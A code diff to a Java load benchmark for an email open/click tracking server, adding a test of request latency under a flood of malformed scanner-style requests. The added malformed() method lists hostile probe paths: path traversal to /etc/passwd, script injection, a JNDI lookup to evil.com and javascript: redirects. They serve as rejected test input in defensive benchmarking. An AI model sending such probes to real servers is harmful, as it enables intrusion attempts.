@@ -10,15 +10,21 @@ import java.util.Map;
 import java.util.OptionalDouble;
 import java.util.Set;
 import java.util.TreeMap;
+import java.util.concurrent.CompletableFuture;
+import java.util.stream.Stream;
 
-/// How many opens one API process takes, durable and not, and how long a mix of opens and clicks at a fixed rate waits;
-/// beside a route of the same server that does nothing, under the same generator, in turns.
+/// How many opens one API process takes, durable and not, and how long a mix of opens and clicks at a fixed
+/// rate waits; beside a route of the same server that does nothing, under the same generator, in turns. Then
+/// how long real ones wait while malformed ones come at ten times their rate.
 final class TrackingBenchmark implements Benchmark {
 
     private static final int MAILS = 500;
     private static final int CONNECTIONS = 128;
     private static final int PACED_PER_SECOND = 5_000;
     private static final int LOGINS_PER_SECOND = 2;
+    private static final int CALM_PER_SECOND = 2_000;
+    private static final int FLOOD_PER_SECOND = 10 * CALM_PER_SECOND;
+    private static final int FLOOD_CONNECTIONS = 256;
     private static final Duration WARMUP = Duration.ofSeconds(3);
     private static final Duration FIRST_WARMUP = Duration.ofSeconds(10);
     private static final Duration INGEST = Duration.ofMinutes(3);
@@ -26,7 +32,14 @@ final class TrackingBenchmark implements Benchmark {
     /// Opens as fast as they are answered, and the route that does nothing in turns with them.
     private record Rates(Spread opens, Spread nothing) {}
 
-    private record Loads(LoadPlan opens, LoadPlan nothing, LoadPlan mix, LoadPlan nothingPaced, LoadPlan logins) {}
+    private record Loads(
+            LoadPlan opens,
+            LoadPlan nothing,
+            LoadPlan mix,
+            LoadPlan nothingPaced,
+            LoadPlan logins,
+            LoadPlan calm,
+            LoadPlan flood) {}
 
     /// The runs in which the generator was latest, by what ran.
     private final Map<String, LoadResult> latest = new TreeMap<>();
@@ -35,6 +48,10 @@ final class TrackingBenchmark implements Benchmark {
     private final List<Double> nothingMax = new ArrayList<>();
     private final List<Double> p99 = new ArrayList<>();
     private final List<Double> max = new ArrayList<>();
+    private final List<Double> calmP99 = new ArrayList<>();
+    private final List<Double> floodedP99 = new ArrayList<>();
+    private final List<Double> floodedMax = new ArrayList<>();
+    private final List<Double> floodPerSecond = new ArrayList<>();
 
     @Override
     public BenchResult run(Launcher launcher, Settings settings, Screen screen) {
@@ -47,13 +64,16 @@ final class TrackingBenchmark implements Benchmark {
             screen.step("Sending " + MAILS + " mails, to open and click what really stands in them ...");
             Audience audience = new Audience(installation, api);
             audience.sender();
-            long _ = audience.send(audience.list("Readers", MAILS), (_, _) -> {});
+            audience.awaitSent(audience.begin(audience.list("Readers", MAILS)), _ -> {});
             Loads loads = loads(installation, TrackedLinks.of(simulator, MAILS), settings.duration());
             LoadGenerator generator = new LoadGenerator(HttpRequests.address(installation.http()));
             screen.step("Warming up ...");
             warmUp(generator, loads);
             for (int i = 1; i <= settings.repeats(); i++) {
                 paced(generator, loads, i + " of " + settings.repeats(), result, screen);
+            }
+            for (int i = 1; i <= settings.repeats(); i++) {
+                flooded(generator, loads, i + " of " + settings.repeats(), result, screen);
             }
             Rates fsync = opens(generator, loads, api, "fsync", settings, result, screen);
             screen.step("Signing in, " + LOGINS_PER_SECOND + " times a second ...");
@@ -87,7 +107,30 @@ final class TrackingBenchmark implements Benchmark {
                         CONNECTIONS,
                         LOGINS_PER_SECOND,
                         WARMUP,
-                        duration.multipliedBy(2)));
+                        duration.multipliedBy(2)),
+                new LoadPlan(links.mix(base), Set.of(200, 302), CONNECTIONS, CALM_PER_SECOND, WARMUP, duration),
+                new LoadPlan(
+                        malformed(base),
+                        Set.of(400, 404, 429),
+                        FLOOD_CONNECTIONS,
+                        FLOOD_PER_SECOND,
+                        Duration.ZERO,
+                        duration.plus(WARMUP)));
+    }
+
+    /// What scanners send: the strategy's malicious identifiers and some more, and links that lead nowhere.
+    private static List<byte[]> malformed(String base) {
+        return Stream.of(
+                        "/track/open/..%2F..%2F..%2Fetc%2Fpasswd",
+                        "/track/open/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+                        "/track/open/$%7Bjndi:ldap:%2F%2Fevil.com%7D",
+                        "/track/open/a.b",
+                        "/track/open/" + "a".repeat(65),
+                        "/track/click/abc?url=javascript:alert(1)",
+                        "/track/click/abc?url=amF2YXNjcmlwdDphbGVydCgxKQ",
+                        "/wp-login.php")
+                .map(path -> HttpRequests.get(base, path, "scanner"))
+                .toList();
     }
 
     private static void warmUp(LoadGenerator generator, Loads loads) {
@@ -107,6 +150,21 @@ final class TrackingBenchmark implements Benchmark {
         LoadResult mix = checked("opens and clicks, paced,", generator.run(loads.mix()), result);
         p99.add(mix.latencyMs(99));
         max.add(mix.maxLatencyMs());
+    }
+
+    /// The real ones alone, then with a flood beside them, which may fall behind its rate: then it comes as
+    /// fast as it is answered.
+    private void flooded(LoadGenerator generator, Loads loads, String turn, BenchResult result, Screen screen) {
+        screen.step(Settings.grouped(CALM_PER_SECOND) + " a second, " + turn + ": opens and clicks alone ...");
+        calmP99.add(checked("opens and clicks without a flood", generator.run(loads.calm()), result)
+                .latencyMs(99));
+        screen.step(Settings.grouped(CALM_PER_SECOND) + " a second, " + turn + ": with "
+                + Settings.grouped(FLOOD_PER_SECOND) + " malformed ones beside them ...");
+        CompletableFuture<LoadResult> flood = CompletableFuture.supplyAsync(() -> generator.run(loads.flood()));
+        LoadResult real = checked("opens and clicks in a flood", generator.run(loads.calm()), result);
+        floodedP99.add(real.latencyMs(99));
+        floodedMax.add(real.maxLatencyMs());
+        floodPerSecond.add(flood.join().perSecond());
     }
 
     private Rates opens(
@@ -189,6 +247,16 @@ final class TrackingBenchmark implements Benchmark {
         result.add(Figure.of("latency_max_ms", "ms", Spread.highest(max))
                 .under("health_live_max_ms", Spread.highest(nothingMax))
                 .noting("The worst single request of all repeats."));
+        result.add(Figure.of("flood_p99_ms", "ms", Spread.median(floodedP99))
+                .under("without_flood_p99_ms", Spread.median(calmP99))
+                .noting("Opens and clicks at " + Settings.grouped(CALM_PER_SECOND)
+                        + "/s, from the intended start, while malformed ones from the same address were meant to come at "
+                        + Settings.grouped(FLOOD_PER_SECOND) + "/s over " + FLOOD_CONNECTIONS + " connections."));
+        result.add(Figure.of("flood_max_ms", "ms", Spread.highest(floodedMax)));
+        result.add(
+                Figure.of("flood_malformed_per_second", "requests/s", Spread.median(floodPerSecond))
+                        .noting(
+                                "How many malformed ones were answered (400, 404, 429) beside them: the server lets who floods wait."));
         result.add(Figure.of("login_p95_ms", "ms", Spread.once(logins.latencyMs(95)))
                 .noting(LOGINS_PER_SECOND + " a second, one account, right password; "
                         + logins.latencyNs().getTotalCount() + " samples. Argon2id is meant to be slow: no ceiling."));
@@ -196,6 +264,6 @@ final class TrackingBenchmark implements Benchmark {
                 "A network, TLS, a proxy in front, and a generator on a machine of its own: all share this one's"
                         + " cores.");
         result.notMeasured("That every open that was answered is counted: prove, not bench, shows that.");
-        result.notMeasured("Opens spread over millions of identifiers, and forged or malformed ones.");
+        result.notMeasured("Opens spread over millions of identifiers, and forged ones.");
     }
 }
